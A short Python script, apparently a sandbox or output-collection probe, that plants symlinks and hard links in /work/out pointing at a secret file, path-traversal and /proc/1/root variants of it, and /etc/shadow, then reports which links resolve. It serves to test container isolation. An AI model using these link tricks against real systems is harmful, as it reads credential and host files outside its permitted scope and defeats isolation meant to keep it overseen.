"""Plants links to files of the host where output might be collected from; says which lead anywhere."""

import json
import os
import sys
import time
from pathlib import Path

secret = sys.argv[1]
reached = []
os.makedirs("/work/out/sub", exist_ok=True)
for name, target in (
    ("result.json", secret),
    ("report.xml", f"../../../../../../..{secret}"),
    ("through_init", f"/proc/1/root{secret}"),
    ("shadow", "/etc/shadow"),
):
    os.symlink(target, f"/work/out/{name}")
    try:
        reached += [f"{name} → {target}"] if Path("/work/out", name).read_bytes() else []
    except OSError:
        continue
for target in (secret, "/etc/shadow", "/proc/1/root/etc/shadow"):
    try:
        os.link(target, f"/work/out/hard{len(reached)}")
        reached.append(f"hard link to {target}")
    except OSError:
        continue
print(json.dumps({"report": reached}), flush=True)
time.sleep(60)
